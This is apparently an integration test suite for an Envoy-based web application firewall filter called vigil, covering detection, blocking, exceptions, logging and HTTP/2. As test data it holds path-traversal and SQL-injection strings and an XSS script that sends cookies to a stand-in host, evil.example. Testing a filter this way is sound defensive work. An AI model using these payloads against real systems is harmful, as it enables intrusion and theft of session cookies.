//! The built filter through a real Envoy, configured by `vigil render-config`: verdicts in the access
//! log, headers to the upstream, blocking, config refusal, response inspection, metrics, HTTP/1.1
//! keep-alive and HTTP/2. Each test has its own Envoy and sample API (see the harness).

use vigil_integration_tests::*;

const TRAVERSAL: &str = "/api/v1/files/..%2f..%2fetc%2fpasswd";
const SQLI: &str = "/api/v1/search?q=%27%20OR%201%3D1--";

fn auth(sub: &str) -> String {
    format!("Bearer {}", signed_jwt(sub))
}

/// GET `path` exactly as written (no client-side path normalisation), one connection.
fn raw(stack: &Stack, path: &str, id: &str, extra: &[(&str, &str)]) -> Response {
    let mut headers = vec![("x-request-id", id), ("accept", "application/json")];
    headers.extend_from_slice(extra);
    raw_http1(&stack.listen_addr(), &[raw_get(path, &headers)]).remove(0)
}

fn kinds_of(line: &Value) -> Vec<String> {
    finding_kinds(&vigil_of(line))
}

fn has_kind(line: &Value, prefix: &str) -> bool {
    kinds_of(line).iter().any(|k| k.starts_with(prefix))
}

#[test]
fn normal_request_is_allowed_and_logged_with_endpoint_and_client() {
    let stack = Stack::with_filter(json!({})).start();
    let token = auth("user-1001");
    let id = request_id("normal");
    let r = stack.client().get("/api/v1/accounts/1001", &[("x-request-id", &id), ("authorization", &token)]);
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["id"], "1001", "the upstream's body passes unchanged");
    assert!(
        r.headers.iter().all(|(k, _)| !k.starts_with("x-vigil-")),
        "verdict headers must not reach the client by default: {:?}",
        r.headers
    );

    let line = stack.wait_log(&id);
    assert_eq!(line["status"], 200);
    assert_eq!(line["method"], "GET");
    let v = vigil_of(&line);
    assert_eq!(v["verdict"], "allow", "{v}");
    let score = v["score"].as_f64().expect("score is a number");
    assert!((0.0..=1.0).contains(&score), "{v}");
    assert!(v.get("endpoint").is_some(), "endpoint key present (null without a model): {v}");
    if let Some(ep) = v["endpoint"].as_str() {
        assert!(ep.starts_with("/api/v1/accounts"), "{v}");
    }
    let client = v["client"].as_str().expect("client is a string");
    assert!(!client.is_empty(), "{v}");
    assert!(
        !client.contains("user-1001") && !token.contains(client),
        "client is a hash, not the raw identity: {v}"
    );

    // The same caller gets the same client id; another caller a different one.
    let id2 = request_id("normal");
    stack.client().get("/api/v1/accounts/1001/balance", &[("x-request-id", &id2), ("authorization", &token)]);
    let id3 = request_id("normal");
    stack.client().get(
        "/api/v1/accounts/1001/balance",
        &[("x-request-id", &id3), ("authorization", &auth("user-2002"))],
    );
    assert_eq!(vigil_of(&stack.wait_log(&id2))["client"], v["client"]);
    assert_ne!(vigil_of(&stack.wait_log(&id3))["client"], v["client"]);

    // A client's UUID request id is logged as sent (Envoy would write its tracing decision into
    // the 15th character of a 36-character id).
    let uuid = "0193f2a4-7c1e-7d0e-9c3b-8a1f6d2e9b70"; // a version 7 UUID: its 15th character is 7
    stack.client().get("/api/v1/accounts/1001", &[("x-request-id", uuid), ("authorization", &token)]);
    assert_eq!(stack.wait_log(uuid)["request_id"], uuid);
}

#[test]
fn verdict_headers_reach_the_upstream() {
    let stack = Stack::with_filter(json!({})).start();
    let r = stack.client().get("/echo", &[("authorization", &auth("user-1001"))]);
    assert_eq!(r.status, 200, "{}", r.text());
    let h = &r.json()["headers"];
    assert_eq!(h["x-vigil-verdict"], "allow", "upstream saw {h}");
    assert!(h["x-vigil-score"].as_str().and_then(|s| s.parse::<f64>().ok()).is_some(), "{h}");

    // An attack on the echo endpoint: the upstream learns about it in monitor mode.
    let r = stack.client().get("/echo?q=%27%20OR%201%3D1--", &[]);
    assert_eq!(r.status, 200, "monitor mode never blocks: {}", r.text());
    let h = &r.json()["headers"];
    assert_ne!(h["x-vigil-verdict"], "allow", "upstream saw {h}");
    assert!(h["x-vigil-findings"].as_str().unwrap_or("").contains("attack.sqli"), "upstream saw {h}");

    // A client cannot forge the verdict the upstream trusts.
    let r = stack.client().get(
        "/echo?q=%27%20OR%201%3D1--",
        &[("x-vigil-verdict", "allow"), ("x-vigil-score", "0"), ("x-vigil-findings", "none")],
    );
    let h = &r.json()["headers"];
    assert_ne!(h["x-vigil-verdict"], "allow", "a forged verdict reached the upstream: {h}");
    assert_ne!(h["x-vigil-findings"], "none", "{h}");
}

#[test]
fn attacks_are_flagged_in_monitor_mode_and_still_reach_the_upstream() {
    let stack = Stack::with_filter(json!({"mode": "monitor"})).start();
    for (path, kind, upstream_status) in [(TRAVERSAL, "attack.", 404), (SQLI, "attack.sqli", 200)] {
        let before = stack.api.hits();
        let id = request_id("monitor");
        let r = raw(&stack, path, &id, &[("authorization", &auth("user-1001"))]);
        assert_eq!(
            r.status,
            upstream_status,
            "{path}: monitor mode passes the upstream's answer: {}",
            r.text()
        );
        assert_eq!(stack.api.hits(), before + 1, "{path} reached the upstream");
        let line = stack.wait_log(&id);
        let v = vigil_of(&line);
        assert_ne!(v["verdict"], "allow", "{path}: {v}");
        assert_eq!(v["enforced"], false, "{path}: {v}");
        assert!(has_kind(&line, kind), "{path}: expected a {kind}* finding: {v}");
        let f = &v["findings"][0];
        for key in ["kind", "owasp", "severity", "confidence", "location", "evidence"] {
            assert!(f.get(key).is_some(), "finding lacks {key}: {f}");
        }
        assert!(f["owasp"].as_str().unwrap_or("").ends_with(":2023"), "{f}");
    }
}

#[test]
fn attacks_are_blocked_in_block_mode_before_the_upstream() {
    let stack = Stack::with_filter(json!({"mode": "block"})).start();
    for path in [TRAVERSAL, SQLI] {
        let before = stack.api.hits();
        let id = request_id("block");
        let r = raw(&stack, path, &id, &[("authorization", &auth("user-1001"))]);
        assert_eq!(r.status, 403, "{path}: {}", r.text());
        assert!(r.header("content-type").unwrap_or("").contains("json"), "{:?}", r.headers);
        let body = r.json();
        assert_eq!(body["error"], "blocked", "{body}");
        assert_eq!(body["request_id"], id.as_str(), "{body}");
        assert_eq!(stack.api.hits(), before, "{path} must not reach the upstream");
        let line = stack.wait_log(&id);
        assert_eq!(line["status"], 403);
        let v = vigil_of(&line);
        assert_eq!(v["verdict"], "block", "{v}");
        assert_eq!(v["enforced"], true, "{v}");
    }
    // Normal traffic still passes in block mode.
    let r = stack.client().get("/api/v1/accounts/1001", &[("authorization", &auth("user-1001"))]);
    assert_eq!(r.status, 200, "{}", r.text());
}

/// Block mode for one endpoint while the rest of the API stays in monitor mode.
#[test]
fn endpoint_modes_block_only_where_configured() {
    let stack = Stack::with_filter(json!({"endpoint_modes": [{"endpoint": "/api/v1/files/*", "mode": "block"}]})).start();
    let before = stack.api.hits();
    let r = raw(&stack, TRAVERSAL, "modes-files", &[]);
    assert_eq!(r.status, 403, "{}", r.text());
    assert_eq!(stack.api.hits(), before, "the blocked request must not reach the upstream");
    assert_eq!(vigil_of(&stack.wait_log("modes-files"))["enforced"], true);
    let r = raw(&stack, SQLI, "modes-search", &[]);
    assert_eq!(r.status, 200, "monitor mode elsewhere: {}", r.text());
    let v = vigil_of(&stack.wait_log("modes-search"));
    assert_eq!((v["verdict"].as_str(), v["enforced"].as_bool()), (Some("block"), Some(false)), "{v}");
}

/// An operator's exception lets one parameter of one endpoint carry what the detectors call an
/// attack, in block mode; the same payload anywhere else is still blocked, and an address
/// exception cannot be claimed with `x-forwarded-for`.
#[test]
fn exceptions_let_one_parameter_through_in_block_mode() {
    let exceptions = json!([
        {"endpoint": "GET /api/v1/search", "locations": ["query:q"], "kinds": ["attack.sqli"], "reason": "analysts' SQL console"},
        {"sources": ["192.0.2.0/24"], "kinds": ["attack.*"], "reason": "the scanner's range"}
    ]);
    let stack = Stack::with_filter(json!({"mode": "block", "policies": {"exceptions": exceptions}})).start();
    let before = stack.api.hits();
    let r = raw(&stack, SQLI, "exception-q", &[]);
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(stack.api.hits(), before + 1, "the excepted request reaches the upstream");
    let v = vigil_of(&stack.wait_log("exception-q"));
    assert_eq!(v["verdict"], "allow", "{v}");
    assert_eq!(v["findings_suppressed"], 1, "{v}");
    assert!(!has_kind(&stack.wait_log("exception-q"), "attack."), "{v}");
    for (id, path, extra) in [
        ("exception-other-param", SQLI.replace("?q=", "?sort="), None),
        ("exception-spoofed-source", SQLI.replace("?q=", "?sort="), Some(("x-forwarded-for", "192.0.2.7"))),
    ] {
        let before = stack.api.hits();
        let r = raw(&stack, &path, id, extra.as_slice());
        assert_eq!(r.status, 403, "{id}: {}", r.text());
        assert_eq!(stack.api.hits(), before, "{id} must not reach the upstream");
        assert!(has_kind(&stack.wait_log(id), "attack.sqli"), "{id}");
    }
    assert!(stack.wait_prometheus("vigil_findings_suppressed_total", 1.0) >= 1.0);
}

/// A POST with a chunked JSON body, sent in two chunks split inside the JSON: the filter must
/// inspect a streamed body, not only a single buffer.
fn chunked_post(path: &str, id: &str, body: &[u8]) -> Vec<u8> {
    let mut req = format!(
        "POST {path} HTTP/1.1\r\nHost: api.example.com\r\nx-request-id: {id}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"
    )
    .into_bytes();
    let (a, b) = body.split_at(body.len() / 2);
    for part in [a, b] {
        req.extend_from_slice(format!("{:x}\r\n", part.len()).as_bytes());
        req.extend_from_slice(part);
        req.extend_from_slice(b"\r\n");
    }
    req.extend_from_slice(b"0\r\n\r\n");
    req
}

fn finding<'a>(v: &'a Value, kind: &str) -> Option<&'a Value> {
    v["findings"].as_array()?.iter().find(|f| f["kind"] == kind)
}

#[test]
fn xss_in_a_chunked_json_body_is_found_at_its_field() {
    let body = br#"{"from":"1001","to":"2002","amount":"1.00","memo":"<script>document.location='https://evil.example/?c='+document.cookie</script>"}"#;
    let stack = Stack::with_filter(json!({})).start();
    let id = request_id("xss");
    let r = raw_http1(&stack.listen_addr(), &[chunked_post("/api/v1/transfers", &id, body)]).remove(0);
    assert_eq!(r.status, 201, "{}", r.text());
    let v = vigil_of(&stack.wait_log(&id));
    let f = finding(&v, "attack.xss").unwrap_or_else(|| panic!("no attack.xss finding: {v}"));
    assert!(f["location"].as_str().unwrap_or("").contains("memo"), "location names the field: {f}");
}

#[test]
fn body_attack_is_blocked_before_the_upstream() {
    let body = br#"{"from":"1001","to":"2002","amount":"1.00","memo":"x' OR 1=1--"}"#;
    let stack = Stack::with_filter(json!({"mode": "block"})).start();
    let before = stack.api.hits();
    let id = request_id("bodyblock");
    let r = raw_http1(&stack.listen_addr(), &[chunked_post("/api/v1/transfers", &id, body)]).remove(0);
    assert_eq!(r.status, 403, "{}", r.text());
    assert_eq!(r.json()["request_id"], id.as_str());
    assert_eq!(stack.api.hits(), before, "a body-side block happens before the upstream");
    let v = vigil_of(&stack.wait_log(&id));
    assert_eq!((v["verdict"].as_str(), v["enforced"].as_bool()), (Some("block"), Some(true)), "{v}");
    let f = finding(&v, "attack.sqli").unwrap_or_else(|| panic!("no attack.sqli finding: {v}"));
    assert!(f["location"].as_str().unwrap_or("").contains("memo"), "location names the field: {f}");
}

/// `policies.protocol` through Envoy: requests outside the operator's stated shape are refused
/// in block mode (severity critical) before the upstream, ordinary ones pass.
#[test]
fn protocol_policy_violations_are_blocked_before_the_upstream() {
    let policy = json!({"allowed_methods": ["GET", "POST"], "allowed_content_types": ["application/json"], "max_arguments": 5, "severity": "critical"});
    let stack = Stack::with_filter(json!({"mode": "block", "policies": {"protocol": policy}})).start();
    let post = |id: &str, content_type: &str, body: &str| {
        format!("POST /api/v1/transfers HTTP/1.1\r\nHost: api.example.com\r\nx-request-id: {id}\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\n\r\n{body}", body.len()).into_bytes()
    };
    let cases = [
        ("xml", post("policy-xml", "text/xml", "<transfer><amount>1</amount></transfer>")),
        ("method", b"DELETE /api/v1/accounts/1001 HTTP/1.1\r\nHost: api.example.com\r\nx-request-id: policy-method\r\n\r\n".to_vec()),
        ("args", b"GET /api/v1/search?a=1&b=2&c=3&d=4&e=5&f=6 HTTP/1.1\r\nHost: api.example.com\r\nx-request-id: policy-args\r\n\r\n".to_vec()),
    ];
    for (what, request) in cases {
        let before = stack.api.hits();
        let r = raw_http1(&stack.listen_addr(), &[request]).remove(0);
        assert_eq!(r.status, 403, "{what}: {} {}", r.text(), stack.wait_log(&format!("policy-{what}")));
        assert_eq!(stack.api.hits(), before, "{what} must not reach the upstream");
        let v = vigil_of(&stack.wait_log(&format!("policy-{what}")));
        assert!(finding(&v, "attack.protocol").is_some(), "{what}: {v}");
    }
    let ok = raw_http1(&stack.listen_addr(), &[post("policy-ok", "application/json", r#"{"from":"1001","to":"2002","amount":"1.00"}"#)]).remove(0);
    assert_eq!(ok.status, 201, "{}", ok.text());
    assert_eq!(vigil_of(&stack.wait_log("policy-ok"))["verdict"], "allow");
}

#[test]
fn card_number_in_a_response_is_reported_redacted() {
    let stack = Stack::with_filter(json!({})).start();
    let id = request_id("card");
    let r = stack
        .client()
        .get("/api/v1/accounts/1001/cards", &[("x-request-id", &id), ("authorization", &auth("user-1001"))]);
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(r.text().contains("4111111111111111"), "monitor mode does not alter the body");
    let line = stack.wait_log(&id);
    let v = vigil_of(&line);
    let f = v["findings"]
        .as_array()
        .and_then(|a| a.iter().find(|f| f["kind"].as_str().unwrap_or("").starts_with("sensitive.")).cloned())
        .unwrap_or_else(|| panic!("no sensitive.* finding: {v}"));
    assert!(f["location"].as_str().unwrap_or("").starts_with("response"), "{f}");
    let line_text = line.to_string();
    assert!(
        !line_text.contains("4111111111111111"),
        "the log must never hold the full card number: {line_text}"
    );
}

#[test]
fn metrics_are_on_the_prometheus_endpoint() {
    let stack = Stack::with_filter(json!({})).start();
    let c = stack.client();
    for _ in 0..3 {
        assert_eq!(c.get("/api/v1/users/me", &[("authorization", &auth("user-1001"))]).status, 200);
    }
    assert_eq!(c.get(SQLI, &[]).status, 200);
    let n = stack.wait_prometheus("vigil_requests_total", 4.0);
    assert!(n >= 4.0);
}

#[test]
fn http1_keep_alive_and_http2() {
    let stack = Stack::with_filter(json!({})).start();
    let token = auth("user-1001");
    let ids: Vec<String> = (0..4).map(|_| request_id("ka")).collect();
    let mut reqs: Vec<Vec<u8>> = ids[..3]
        .iter()
        .map(|id| {
            raw_get("/api/v1/accounts/1001/balance", &[("x-request-id", id), ("authorization", &token)])
        })
        .collect();
    let body = br#"{"from":"1001","to":"2002","amount":"25.00","currency":"USD","memo":"rent"}"#;
    let mut post = format!(
        "POST /api/v1/transfers HTTP/1.1\r\nHost: api.example.com\r\nx-request-id: {}\r\nauthorization: {token}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
        ids[3],
        body.len()
    )
    .into_bytes();
    post.extend_from_slice(body);
    reqs.push(post);

    let before = stack.listener_connections();
    let resps = raw_http1(&stack.listen_addr(), &reqs);
    assert_eq!(resps.iter().map(|r| r.status).collect::<Vec<_>>(), [200, 200, 200, 201]);
    assert_eq!(resps[3].json()["request"]["memo"], "rent", "the body reached the upstream intact");
    assert_eq!(stack.listener_connections() - before, 1, "four requests, one connection");
    for id in &ids {
        assert_eq!(vigil_of(&stack.wait_log(id))["verdict"], "allow");
    }

    // HTTP/2 (h2c, prior knowledge): a GET and a POST with a JSON body.
    let id = request_id("h2");
    let (r, version) = curl_h2(
        &format!("{}/api/v1/accounts/1001", stack.base_url()),
        "GET",
        &[("x-request-id", &id), ("authorization", &token)],
        None,
    );
    assert_eq!((r.status, version.as_str()), (200, "2"));
    assert_eq!(vigil_of(&stack.wait_log(&id))["verdict"], "allow");
    let id = request_id("h2");
    let (r, version) = curl_h2(
        &format!("{}/api/v1/transfers", stack.base_url()),
        "POST",
        &[("x-request-id", &id), ("authorization", &token), ("content-type", "application/json")],
        Some(br#"{"memo":"x' OR 1=1--","amount":"1.00"}"#),
    );
    assert_eq!((r.status, version.as_str()), (201, "2"), "{}", r.text());
    let line = stack.wait_log(&id);
    assert!(has_kind(&line, "attack.sqli"), "the h2 body was inspected: {}", vigil_of(&line));
}

#[test]
fn bad_config_is_refused_naming_the_field() {
    // render-config may refuse the bad value itself (it shares the engine's validation): fine, it
    // must name the field. Envoy must refuse it too, so plant it in a rendered config.
    let paths = Paths::get();
    paths.require(&[Artifact::Vigil, Artifact::Wasm, Artifact::Envoy]);
    let dir = tempfile::tempdir().unwrap();
    let ep = Endpoints::offline(dir.path());
    let bad = dir.path().join("bad.json");
    std::fs::write(&bad, r#"{"mode":"bogus"}"#).unwrap();
    let o = std::process::Command::new(&paths.vigil)
        .args(["render-config", "--wasm"])
        .arg(&paths.wasm)
        .args(["--listen", &format!("127.0.0.1:{}", ep.listen_port), "--upstream", "127.0.0.1:9"])
        .arg("--access-log")
        .arg(&ep.access_log)
        .arg("--config")
        .arg(&bad)
        .arg("-o")
        .arg(dir.path().join("direct.yaml"))
        .output()
        .unwrap();
    let config = if o.status.success() {
        dir.path().join("direct.yaml")
    } else {
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("mode") && err.contains("bogus"),
            "render-config refused without naming field and value: {err}"
        );
        let good = render_config(dir.path(), &ep, &json!({"mode": "monitor"}), &[]);
        let text = std::fs::read_to_string(&good).unwrap();
        let planted = text
            .replace(r#""mode":"monitor""#, r#""mode":"bogus""#)
            .replace(r#"\"mode\":\"monitor\""#, r#"\"mode\":\"bogus\""#);
        assert_ne!(planted, text, "could not find the plugin configuration in the rendered config:\n{text}");
        let p = dir.path().join("planted.yaml");
        std::fs::write(&p, planted).unwrap();
        p
    };
    let log_path = dir.path().join("envoy.log");
    let exited = match Envoy::start(&config, ep.admin_port, &log_path) {
        Ok(_envoy) => panic!(
            "Envoy accepted {{\"mode\":\"bogus\"}}\n{}",
            envoy_log_digest(&std::fs::read_to_string(&log_path).unwrap_or_default())
        ),
        Err(e) => e,
    };
    assert_eq!(exited.status.and_then(|s| s.code()), Some(1), "{}", envoy_log_digest(&exited.log));
    let refusal =
        exited.log.lines().find(|l| l.contains("[wasm]") && l.contains("mode") && l.contains("bogus"));
    assert!(
        refusal.is_some(),
        "no wasm log line naming the field and the value:\n{}",
        envoy_log_digest(&exited.log)
    );
}

#[test]
fn rendered_config_passes_envoy_validate() {
    let dir = tempfile::tempdir().unwrap();
    let ep = Endpoints::offline(dir.path());
    for (name, cfg) in [("default", json!({})), ("block", json!({"mode": "block"}))] {
        let sub = dir.path().join(name);
        std::fs::create_dir_all(&sub).unwrap();
        let config = render_config(&sub, &ep, &cfg, &[]);
        let o = envoy_validate(&config);
        assert!(
            o.status.success(),
            "envoy --mode validate refused the {name} config: {}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        );
    }
}

#[test]
fn a_model_learned_from_the_access_log_names_endpoints() {
    // Learn from this filter's own access log, then run with the model: what is learned is what is
    // scored, through the real log format.
    let paths = Paths::get();
    let learning = Stack::with_filter(json!({})).start();
    let c = learning.client();
    let mut ids = Vec::new();
    for i in 0..60 {
        let id = request_id("learn");
        let token = auth(&format!("user-{}", i % 5));
        let h = [("x-request-id", id.as_str()), ("authorization", token.as_str())];
        let acct = 1000 + i;
        let r = match i % 4 {
            0 => c.get(&format!("/api/v1/accounts/{acct}"), &h),
            1 => c.get(&format!("/api/v1/accounts/{acct}/balance"), &h),
            2 => c.get(&format!("/api/v1/search?q=coffee{i}&limit=20"), &h),
            _ => c.post(
                "/api/v1/transfers",
                &h,
                format!(r#"{{"from":"{acct}","to":"2002","amount":"{i}.00"}}"#).as_bytes(),
            ),
        };
        assert!(r.status < 300, "{}", r.text());
        ids.push(id);
    }
    for id in &ids {
        learning.wait_log(id);
    }
    let model = learning.dir().join("model.json");
    let o = std::process::Command::new(&paths.vigil)
        .arg("learn")
        .arg(&learning.ep.access_log)
        .arg("-o")
        .arg(&model)
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "vigil learn: {}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    let o = std::process::Command::new(&paths.vigil).arg("check").arg(&model).output().unwrap();
    assert!(
        o.status.success(),
        "vigil check: {}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    // The model is embedded at render time; the learning stack (and its dir) can go afterwards.
    let stack =
        Stack::with_filter(json!({})).render_arg("--model").render_arg(model.display().to_string()).start();
    drop(learning);
    let id = request_id("known");
    let r = stack
        .client()
        .get("/api/v1/accounts/4242", &[("x-request-id", &id), ("authorization", &auth("user-1"))]);
    assert_eq!(r.status, 200);
    let v = vigil_of(&stack.wait_log(&id));
    let ep = v["endpoint"].as_str().unwrap_or_else(|| panic!("a learned endpoint is named: {v}"));
    assert!(ep.starts_with("/api/v1/accounts/") && !ep.contains("4242"), "a template, not the raw path: {v}");

    let id = request_id("unknown");
    stack
        .client()
        .get("/api/v1/admin/export?all=true", &[("x-request-id", &id), ("authorization", &auth("user-1"))]);
    let line = stack.wait_log(&id);
    assert!(vigil_of(&line)["endpoint"].is_null(), "{line}");
    assert!(has_kind(&line, "baseline.unknown_endpoint"), "{}", vigil_of(&line));
}
